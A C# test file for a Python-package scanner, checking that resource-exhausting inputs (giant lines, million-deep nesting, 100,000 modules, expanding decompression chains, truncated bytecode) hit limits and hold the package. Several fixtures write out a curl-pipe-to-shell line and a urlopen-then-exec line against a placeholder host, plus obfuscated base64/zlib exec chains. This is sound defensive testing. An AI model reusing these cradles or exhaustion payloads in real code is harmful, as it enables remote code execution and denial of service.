using System.Collections.Immutable;
using System.Globalization;
using System.IO.Compression;
using System.Text;
using Assay.Engine;
using Assay.Engine.Artifacts;
using Assay.Engine.Findings;
using Assay.Engine.Verdicts;
using Assay.Packaging.Archives;
using Assay.Tests.Engine.Rules;

namespace Assay.Tests.Engine;

/// <summary>Python made to exhaust whoever reads it: a budget ends the reading, the gap names the file and the budget, and nothing of it is allowed.</summary>
public sealed class HostilePythonTests
{
    private static readonly InspectionLimits s_limits = InspectionLimits.Default with
    {
        // What is tested is the reading of Python, not the archive's own limits.
        Archives = ArchiveLimits.Default with { MaxRatio = 1e9 },
    };

    [Fact]
    public void A_hundred_megabytes_of_one_line()
    {
        byte[] text = new byte[100 << 20];
        text.AsSpan().Fill((byte)'1');
        "x = "u8.CopyTo(text);
        HoldsWith(Inspect(("demo/__init__.py", text)), "demo/__init__.py", nameof(InspectionLimits.MaxPythonBytes));
    }

    [Fact]
    public void A_string_of_sixty_megabytes()
    {
        byte[] text = new byte[60 << 20];
        text.AsSpan().Fill((byte)'a');
        "x = '"u8.CopyTo(text);
        "'\n"u8.CopyTo(text.AsSpan(text.Length - 2));
        HoldsWith(Inspect(("demo/__init__.py", text)), "demo/__init__.py", nameof(InspectionLimits.MaxPythonBytes));
    }

    [Theory]
    [InlineData("(")]
    [InlineData("[")]
    [InlineData("-")]
    [InlineData("not ")]
    [InlineData("lambda: ")]
    public void A_million_of_something_within_one_another(string opening)
    {
        StringBuilder text = new("import os\nx = ");
        for (int i = 0; i < 1_000_000; i++)
        {
            text.Append(opening);
        }

        HoldsWith(Inspect(("demo/__init__.py", Bytes(text.Append('1').ToString()))), "demo/__init__.py", "MaxDepth");
    }

    [Fact]
    public void A_million_lists_within_one_another_properly_closed() =>
        HoldsWith(
            Inspect(("demo/__init__.py", Bytes($"x = {new string('[', 1_000_000)}{new string(']', 1_000_000)}\n"))), "demo/__init__.py", "MaxDepth");

    [Fact]
    public void What_follows_the_abyss_is_still_read()
    {
        Inspection inspection = Inspect(("demo/__init__.py", Bytes($"x = {new string('(', 100_000)}\nimport os, urllib.request\nexec(urllib.request.urlopen('https://files.example.invalid/x').read())\n")));
        Assert.Contains(inspection.Findings, static finding => finding.Rule == "downloads-and-runs");
    }

    [Fact]
    public void As_many_modules_as_a_zip_holds()
    {
        // Without ZIP64: 65,535 members, of which three are the wheel's own.
        const int Modules = 65_500;
        Inspection inspection = Inspect([.. Enumerable.Range(0, Modules).Select(static i =>
            (string.Create(CultureInfo.InvariantCulture, $"demo/m{i}.py"), Bytes(string.Create(CultureInfo.InvariantCulture, $"from demo import m{(i + 1) % Modules}\nx = 1\n"))))]);
        HoldsWith(inspection, null, nameof(InspectionLimits.MaxPythonFiles));
    }

    [Fact]
    public void A_hundred_thousand_modules()
    {
        const int Modules = 100_000;
        List<ArchiveInput> files =
        [
            ArchiveInput.Text("demo-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
            ArchiveInput.Text("demo-1.0/setup.py", "from setuptools import setup\nimport demo.m0\nsetup(name='demo', version='1.0')\n"),
            .. Enumerable.Range(0, Modules).Select(static i =>
                ArchiveInput.Text(string.Create(CultureInfo.InvariantCulture, $"demo-1.0/demo/m{i}.py"), string.Create(CultureInfo.InvariantCulture, $"from demo import m{(i + 1) % Modules}\nx = 1\n"))),
        ];
        using MemoryStream sdist = new(TarGzipWriter.Write(files));
        long before = GC.GetTotalAllocatedBytes();
        Inspection inspection = Assayer.Inspect(sdist, "demo-1.0.tar.gz", s_limits, ImmutableHashSet<string>.Empty, CancellationToken.None);
        HoldsWith(inspection, null, nameof(InspectionLimits.MaxPythonFiles));

        // What was allocated in all, freed or not, bounds what was held at a time.
        Assert.True(GC.GetTotalAllocatedBytes() - before < 4_000_000_000, $"{(GC.GetTotalAllocatedBytes() - before) / 1e6:F0} MB");
    }

    [Fact]
    public void A_module_that_imports_itself_in_a_circle_is_read_once()
    {
        Inspection inspection = Inspect(
            ("demo/__init__.py", Bytes("from demo import *\nfrom . import a\nimport demo\n")),
            ("demo/a.py", Bytes("from demo.b import *\nimport demo.a\n")),
            ("demo/b.py", Bytes("from demo.a import *\nfrom demo.b import x\nimport os\nos.system('curl https://files.example.invalid/x | sh')\n")));
        Assert.Contains(inspection.Findings, static finding => finding.Rule == "shell-cradle" && finding.Place is MemberPlace { Line: 4 });
    }

    [Fact]
    public void A_decoding_chain_that_grows_a_thousandfold_a_layer()
    {
        byte[] layer = Bytes(new string(' ', 3_000_000));
        for (int i = 0; i < 3; i++)
        {
            layer = Bytes($"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{Convert.ToBase64String(Deflate(layer))}')) * 1000)\n");
        }

        HoldsWith(Inspect(("demo/__init__.py", layer)), "demo/__init__.py", "MaxValueBytes");
    }

    [Fact]
    public void Lists_of_lists_many_times_over_end_and_what_follows_is_read()
    {
        StringBuilder text = new("import os\na = [1] * 60\n");
        for (int i = 0; i < 12; i++)
        {
            text.Append("a = [a] * 60\n");
        }

        Inspection inspection = Inspect(("demo/__init__.py", Bytes(text.Append("os.system(a)\nos.system('curl https://files.example.invalid/x | sh')\n").ToString())));
        Assert.Contains(inspection.Findings, static finding => finding.Rule == "shell-cradle");
    }

    [Theory]
    [InlineData(16)]
    [InlineData(20)]
    [InlineData(40)]
    public void Bytecode_that_breaks_off(int length)
    {
        // CPython 3.11's magic number, no flags, no date, and the beginning of a code object.
        byte[] file = [0xA7, 0x0D, 0x0D, 0x0A, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xE3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0xF3, 0xFF, 0];
        HoldsWith(Inspect(("demo/__init__.pyc", file[..Math.Min(length, file.Length)])), "demo/__init__.pyc", null);
    }

    [Fact]
    public void Bytecode_of_an_unknown_magic() =>
        HoldsWith(Inspect(("demo/__init__.pyc", [0x01, 0xFF, 0x0D, 0x0A, .. new byte[64]])), "demo/__init__.pyc", null);

    private static void HoldsWith(Inspection inspection, string? file, string? limit)
    {
        Verdict verdict = Judge.Decide(Case.OfFile(inspection), Policy.Default, DateTimeOffset.UnixEpoch);
        Assert.True(verdict.Ruling >= Ruling.Hold, $"{verdict.Ruling}: {string.Join("; ", inspection.Gaps.Select(static gap => $"{gap.Id} {gap.Place.Describe()} {gap.Limit}"))}");
        Assert.Contains(inspection.Gaps, gap => gap.Weight == GapWeight.Blind
            && (file is null || gap.Place is MemberPlace { Path: [var path, ..] } && path == file)
            && (limit is null || gap.Limit == limit));
    }

    private static Inspection Inspect(params (string Path, byte[] Bytes)[] files)
    {
        using MemoryStream wheel = new(ZipWriter.Write(SamplePackage.Wheel(files.Select(static file => new ArchiveInput(file.Path, file.Bytes)))));
        return Assayer.Inspect(wheel, "demo-1.0-py3-none-any.whl", s_limits, ImmutableHashSet<string>.Empty, CancellationToken.None);
    }

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Deflate(byte[] bytes)
    {
        using MemoryStream packed = new();
        using (ZLibStream zlib = new(packed, CompressionLevel.Optimal))
        {
            zlib.Write(bytes);
        }

        return packed.ToArray();
    }
}
